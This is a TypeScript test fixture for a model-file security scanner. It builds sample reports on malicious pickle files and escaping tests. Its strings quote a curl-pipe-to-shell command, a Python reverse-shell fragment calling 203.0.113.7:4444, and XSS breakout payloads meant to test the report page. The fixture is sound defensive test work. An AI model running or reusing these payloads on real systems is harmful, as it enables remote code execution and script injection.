import type { Reference } from '../../core/finding.ts';
import { assemble } from '../../dossier/assemble.ts';
import { LOADING } from './loading.fixture.ts';
import type { Dossier, DossierFile, DossierFinding } from '../../dossier/dossier.ts';

const CWE_502: Reference = { id: 'CWE-502', url: 'https://cwe.mitre.org/data/definitions/502.html' };
const SUPPLY_CHAIN: Reference = { id: 'LLM03:2025', url: 'https://genai.owasp.org/llmrisk/llm032025-supply-chain/' };

function finding(number: number, over: Partial<DossierFinding> = {}): DossierFinding {
  return {
    rule: 'pickle-gadget',
    severity: 'critical',
    confidence: 'high',
    title: 'Runs a program on the machine that loads the file',
    message:
      "This pickle calls os.system('curl -s https://example.org/x | sh') (byte 67). Merely loading the file starts another program, chosen by whoever made the file, with all the rights of the person who loads it.",
    location: { kind: 'file', path: 'pytorch_model.bin', member: 'archive/data.pkl', offset: 67 },
    evidence: [
      { label: 'call at byte 67', text: "os.system('curl -s https://example.org/x | sh')" },
      { label: 'opcodes', text: 'GLOBAL, REDUCE' },
    ],
    references: [CWE_502, { id: 'AML.T0011.000', url: 'https://atlas.mitre.org/techniques/AML.T0011.000' }],
    fingerprint: (0x1a16c77cd955 + number * 0x10001).toString(16).padStart(32, '9'),
    ...over,
  };
}

function dossierOf(name: string, files: readonly DossierFile[], findings: readonly DossierFinding[]): Dossier {
  return assemble({
    subject: {
      name,
      kind: 'folder',
      files: files.length,
      bytes: files.reduce((total, { size }) => total + size, 0),
    },
    files,
    examinations: [{ id: 'artifacts', status: 'partial', reason: '3 files were not read in full' }],
    findings,
    measurements: [
      {
        id: 'parameters.safetensors',
        title: 'Parameters in safetensors files',
        value: 1_498_482_688,
        unit: 'parameters',
        n: 2,
        method: 'product of the dimensions of every tensor in the tables of the files, added up',
      },
      {
        id: 'share',
        title: 'Share of tensors that match the base',
        value: 0.912,
        unit: 'of tensors',
        interval: { low: 0.874, high: 0.941, level: 0.95 },
        n: 338,
        method: 'Wilson score interval',
      },
    ],
    run: {
      tool: 'assay',
      version: '0.1.0',
      started: '2026-01-02T03:04:05.678Z',
      seconds: 4.12,
      node: 'v24.0.0',
      platform: 'linux-x64',
    },
  });
}

const hash = (digit: string): { sha256: string } => ({ sha256: digit.repeat(64) });

/** A little of everything. */
export function richDossier(): Dossier {
  const files: DossierFile[] = [
    { path: 'README.md', size: 4210, format: 'unknown', status: 'not applicable', ...hash('a') },
    { path: 'config.json', size: 546, format: 'unknown', status: 'not applicable', ...hash('b') },
    { path: 'model-00001-of-00002.safetensors', size: 1_998_482_688, format: 'safetensors', status: 'complete' },
    { path: 'model-00002-of-00002.safetensors', size: 998_482_688, format: 'safetensors', status: 'complete' },
    {
      path: 'model.safetensors.index.json',
      size: 28_100,
      format: 'shard-index',
      status: 'complete',
      ...hash('c'),
    },
    { path: 'pytorch_model.bin', size: 2_851_110, format: 'torch-zip', status: 'complete', ...hash('d') },
    {
      path: 'optimizer/state.pkl',
      size: 88_564,
      format: 'pickle',
      status: 'partial',
      reason: 'the stream ends at byte 88,564 before STOP',
    },
    {
      path: 'checkpoints/old/model.gguf',
      size: 1200,
      format: 'gguf',
      status: 'failed',
      reason: 'the header announces 18,446,744,073,709,551,615 tensors: more than the file can hold',
    },
    {
      path: 'latest',
      size: 0,
      format: 'unknown',
      status: 'skipped',
      reason: 'a symbolic link that leads out of the subject',
    },
  ];
  const findings = [
    finding(1),
    finding(2, {
      title: 'Runs Python code carried in the file',
      message: "This pickle calls builtins.exec('import socket…') (byte 52).",
      location: { kind: 'file', path: 'optimizer/state.pkl', offset: 52, length: 1420 },
      evidence: [
        {
          label: 'call at byte 52',
          text: 'builtins.exec(\n  \'import socket,subprocess,os\\ns=socket.socket()\\ns.connect(("203.0.113.7",4444))\'\n)',
        },
      ],
    }),
    finding(3, {
      rule: 'archive-views-differ',
      severity: 'high',
      title: 'Two loaders see two different archives',
      message: 'The central directory and the local headers name different members at byte 1,204.',
      location: { kind: 'file', path: 'pytorch_model.bin', member: 'archive/outer.zip!/inner.pkl', offset: 1204 },
      evidence: [
        { label: 'central directory', text: 'archive/data.pkl' },
        { label: 'local header', text: 'archive/data.pkl\\x00.txt' },
      ],
      references: [{ id: 'CWE-436', url: 'https://cwe.mitre.org/data/definitions/436.html' }],
    }),
    finding(4, {
      rule: 'pickle-unknown-global',
      severity: 'medium',
      confidence: 'medium',
      title: 'The pickle imports a name that is not known to be harmless',
      message: 'Nothing is known of mine.Thing.',
      location: { kind: 'file', path: 'optimizer/state.pkl', offset: 3 },
      references: [CWE_502, SUPPLY_CHAIN],
    }),
    finding(5, {
      rule: 'tensor-hidden-data',
      severity: 'low',
      title: 'Bytes that belong to no tensor',
      message: '4,096 bytes lie between two tensors, and no loader reads them.',
      location: {
        kind: 'file',
        path: 'model-00001-of-00002.safetensors',
        tensor: 'model.layers.11.mlp.down_proj.weight',
        offset: 1_204_224,
        length: 4096,
      },
      evidence: [],
    }),
    finding(6, {
      rule: 'lying-extension',
      severity: 'info',
      title: 'The content is not what the name says',
      message: 'The file is named latest, but leads elsewhere.',
      location: { kind: 'file', path: 'latest', line: 1 },
      evidence: [],
      references: [
        { id: 'a script', url: 'javascript:alert(1)' },
        { id: 'an old page', url: 'http://example.org/' },
      ],
    }),
    finding(7, {
      severity: 'high',
      title: 'An accepted one',
      accepted: { reason: 'internal loader, reviewed by Kim', expires: '2027-03-31' },
    }),
  ];
  return { ...dossierOf('acme/quiet-mind-1.5b', files, findings), loading: LOADING };
}

/** Nothing found, everything read. */
export function quietDossier(): Dossier {
  const { files, ...rest } = richDossier();
  return assemble({
    ...rest,
    files: files.filter(({ status }) => status === 'complete'),
    examinations: [{ id: 'artifacts', status: 'complete' }],
    findings: [],
  });
}

const ATTACK =
  '</script><script>window.pwned = 1</script><img src=x onerror="window.pwned = 1">--><!-- \u202e\u2028${alert(1)}\'&lt;';

/** Names and messages that try to break out of the page. */
export function hostileDossier(): Dossier {
  const long = 'x'.repeat(10_000);
  const files: DossierFile[] = [
    { path: ATTACK, size: 1, format: 'pickle', status: 'failed', reason: ATTACK },
    { path: long, size: Number.MAX_SAFE_INTEGER, format: 'pickle', status: 'partial', reason: long },
    { path: `שלום/${'\u0301'.repeat(400)}`, size: 3, format: 'pickle', status: 'complete' },
  ];
  const findings = [
    finding(1, {
      title: ATTACK,
      message: ATTACK,
      location: { kind: 'file', path: ATTACK, member: long, tensor: ATTACK },
      evidence: [{ label: ATTACK, text: ATTACK }],
      references: [
        { id: ATTACK, url: 'https://example.org/"onmouseover="window.pwned = 1' },
        { id: 'data', url: 'data:text/html,<script>window.pwned = 1</script>' },
      ],
      accepted: { reason: ATTACK, expires: ATTACK },
    }),
    finding(2, { title: ATTACK, message: ATTACK, location: { kind: 'file', path: ATTACK, member: long } }),
    finding(3, { message: `$& $\` $' <!--headline-->${long}`, evidence: [{ label: long, text: long }] }),
  ];
  const code = { what: ATTACK, files: [ATTACK, long], under: ATTACK, byDefault: true };
  const loading = { loader: 'torch.load', folder: ATTACK, call: 'torch.load(file)', files: [ATTACK, long] } as const;
  return {
    ...dossierOf(`${ATTACK}\n${long}`, files, findings),
    loading: [{ ...loading, fileCount: 2, runs: [code], note: long }],
  };
}

/** More than anybody reads. */
export function largeDossier(): Dossier {
  const files = Array.from(
    { length: 20_000 },
    (_, i): DossierFile => ({ path: `folder/${i}.pkl`, size: i, format: 'pickle', status: 'complete' }),
  );
  const findings = Array.from({ length: 10_000 }, (_, i) =>
    finding(i, { location: { kind: 'file', path: `folder/${i % 5000}.pkl`, offset: i } }),
  );
  return dossierOf('large', files, findings);
}
